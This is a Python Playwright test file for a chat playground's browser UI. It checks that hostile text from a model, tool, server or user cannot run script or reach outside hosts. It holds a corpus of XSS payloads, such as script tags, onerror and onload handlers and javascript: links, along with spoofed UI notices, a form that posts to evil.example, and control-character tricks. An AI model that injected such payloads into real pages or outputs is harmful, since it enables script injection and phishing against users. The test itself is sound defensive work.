"""Words of a model, a tool, a server or a user are data: they run, fetch and break nothing."""

from base64 import b64encode
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from benchmarks.harness import Server
from tests.browser.playground import expect_ended, rows, send, turns, until, visit
from tests.browser.scripted import Answers, Wire, frame, step, stream

ELSEWHERE = "http://evil.example"
DEEP = 900
CORPUS = (
    "<script>window.ran = 'script'</script>",
    f"<img src=x onerror=\"window.ran = 'onerror'\"><img src='{ELSEWHERE}/i.png'>",
    f"![remote]({ELSEWHERE}/m.png) ![ref][r]\n\n[r]: {ELSEWHERE}/r.png",
    "<svg onload=\"window.ran = 'svg'\"><style>.stApp { display: none }</style></svg>",
    "<iframe srcdoc=\"<script>parent.ran = 'iframe'</script>\"></iframe>",
    "[click](javascript:window.ran='link') <a href=\"javascript:window.ran='a'\">x</a>",
    "[data](data:text/html,<script>window.ran='data'</script>)",
    "</pre></details></div></textarea><div class='trouble bad' role='note'>Your session has expired</div>",
    "<button class='st-key-stop'>Stop</button><form action='https://evil.example'><input name='key'></form>",
    "\u202eright to left\u202c \u200b\u2066isolate\u2069 \ufeff\u0000\u001b[31mred\u001b[0m \u2028 \ud800",
    ":red[colour] :material/delete: $x^2$ --> :stop: <!-- comment",
    "``` \n~~~\n" + "> " * 60 + "deep\n" + "* " * 60 + "list",
    "[" * DEEP + "]" * DEEP,
    "long" * 20_000,
)
HOSTILE = "\n\n".join(CORPUS)
MEDIA = [
    {"type": kind, "mime_type": claim, "data": b64encode(text.encode()).decode(), "name": text}
    for kind in ("audio", "image", "video")
    for claim, text in (
        ("text/html", CORPUS[0]),
        ("text/javascript", "ran = 1"),
        ("image/svg+xml", CORPUS[3]),
    )
]
PROMPT, FAILING = "Say it all", "Fail with it"


def events() -> list[Wire]:
    """The corpus in every place that shows words of others."""
    call = {"type": "mcp_server_tool_call", "id": "1", "name": HOSTILE[:400], "server_name": CORPUS[0]}
    result = {"search_suggestions": f"{HOSTILE}<a href='{ELSEWHERE}'>{CORPUS[0]}</a>"}
    citation = {"type": "url_citation", "url": CORPUS[5], "title": HOSTILE[:500], "end_index": 9}
    return [
        *step(
            0, {"type": "thought"}, {"type": "thought_summary", "content": {"type": "text", "text": HOSTILE}}
        ),
        *step(1, call, {"type": "mcp_server_tool_call", "arguments": {text[:50]: text for text in CORPUS}}),
        *step(2, {"type": "mcp_server_tool_result", "call_id": "1", "result": HOSTILE}),
        *step(3, {"type": "google_search_result", "call_id": "2", "result": [result]}),
        *step(4, {"type": "url_context_result", "call_id": "3", "result": [{"url": t} for t in CORPUS[:-2]]}),
        *step(5, {"type": CORPUS[0], "name": CORPUS[1]}, {"type": CORPUS[7], "data": HOSTILE}),
        *step(6, {"type": "model_output"}, {"type": "image", "uri": f"{ELSEWHERE}/u.png"}, *MEDIA),
        *(event for n, text in enumerate(CORPUS, 7) for event in _said(n, text, citation)),
        {"event_type": CORPUS[0], "index": CORPUS[1]},
    ]


def _said(index: int, text: str, citation: Wire) -> list[Wire]:
    annotated = {"type": "text_annotation_delta", "annotations": [citation]}
    return step(index, {"type": "model_output"}, {"type": "text", "text": text}, annotated)


def failure() -> bytes:
    error = {"event_type": "error", "error": {"code": CORPUS[0], "message": HOSTILE}}
    return frame(error).replace(b"\n\n", b"\n: " + CORPUS[1].encode() + b"\n\n") + CORPUS[3].encode()


@pytest.fixture
def hostile(scripted_app: Server, answers: Answers) -> Server:
    answers.say({PROMPT: stream(events()), FAILING: failure()})
    return scripted_app


def test_a_hostile_corpus_through_every_place_changes_nothing(page: Page, hostile: Server) -> None:
    """In the answer, thoughts, tools, errors, unknown events, the log and the prompt. The page works on."""
    asked: list[Request] = []
    broken: list[str] = []
    page.on("request", lambda request: asked.append(request))
    page.on("pageerror", lambda error: broken.append(str(error)))
    page.on("dialog", lambda dialog: broken.append(dialog.message))
    visit(page, hostile)
    send(page, PROMPT)
    expect_ended(page)
    open_all(page)
    send(page, FAILING)
    until(page, lambda shown: shown.turns == 2)
    expect_ended(page, "failed")
    send(page, HOSTILE.replace("\u0000", "").replace("\ud800", ""))
    until(page, lambda shown: shown.turns == 3)
    expect_ended(page)
    open_all(page)
    assert page.evaluate("window.ran") is None
    assert broken == []
    assert {urlsplit(each.url).hostname for each in asked if each.url.startswith("http")} == {"127.0.0.1"}
    panes = page.locator(".st-key-conversation, .st-key-event_log")
    for foreign in ("script", "iframe", "form input[name=key]", "[onerror]", "[onload]", "a[href^='java' i]"):
        assert panes.locator(foreign).count() == 0, foreign
    assert panes.locator(f"img[src^='{ELSEWHERE}']").count() == 0
    assert "Your session has expired" not in page.locator(".trouble").all_inner_texts()
    expect(page.locator(".stApp")).to_be_visible()
    assert {"request", "end"} <= {row.type for row in rows(page)}


def test_a_users_hostile_text_is_shown_as_text(page: Page, hostile: Server) -> None:
    """Character by character, and sent so."""
    text = "\n".join((*CORPUS[:8], CORPUS[10]))
    visit(page, hostile)
    send(page, text)
    expect_ended(page)
    expect(turns(page).last.get_by_test_id("stText").first).to_have_text(text, use_inner_text=True)
    sent = next(row.json for row in rows(page) if row.type == "request")
    assert sent["body"]["input"] == text


def open_all(page: Page) -> None:
    """Everything that opens, at once: a reader's clicks on hundreds of rows take minutes."""
    page.evaluate(
        "document.querySelectorAll('.st-key-event_log details').forEach(each => { each.open = true })"
    )
    cards = turns(page).last.locator("details:not([open]) > summary")
    while cards.count():
        cards.first.click()
